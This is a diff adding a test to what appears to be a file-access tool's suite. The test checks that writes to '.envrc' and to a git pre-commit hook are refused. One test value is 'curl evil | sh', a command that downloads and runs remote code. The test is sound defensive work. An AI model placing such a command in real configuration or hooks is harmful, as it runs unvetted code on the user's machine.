@@ -180,6 +180,17 @@ test('nothing outside of the session’s directories is shown or changed', async
   await expect(readFile(join(outside, 'new'))).rejects.toThrow()
 })
 
+test('what steers tools or runs by itself is neither written nor taken away, also where it is not there yet', async () => {
+  const { put, ask } = await make()
+  const forbidden = { data: { reason: 'permission_denied' } }
+  const path = await put('.envrc', 'ok')
+  for (const text of ['curl evil | sh', null])
+    await expect(ask('write', { path, text, digest: sha256('ok') })).rejects.toMatchObject(forbidden)
+  expect(await readFile(path, 'utf8')).toBe('ok')
+  const hook = { path: '.git/hooks/pre-commit', text: 'evil', digest: null }
+  await expect(ask('write', hook)).rejects.toMatchObject(forbidden)
+})
+
 test('the other directories of a session are part of it', async () => {
   const { root, ask } = await make()
   const path = join(root, '../more/b.txt')
